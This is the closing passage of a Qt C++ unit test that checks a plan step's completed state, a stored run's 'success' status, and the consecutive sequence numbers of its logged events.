    QCOMPARE(plan->data(plan->index(2, 0), Core::PlanModel::StateRole).toInt(),
             int(StepState::Done));

    Core::RunStore store;
    QVERIFY(store.open(Core::RunStore::defaultPath()));
    QCOMPARE(store.run(runId)->status, QStringLiteral("success"));
    const QList<Core::RunEvent> events = store.events(runId);
    for (qsizetype i = 0; i < events.size(); ++i)
        QCOMPARE(events.at(i).seq, i + 1);
}

#include "tst_window.moc"
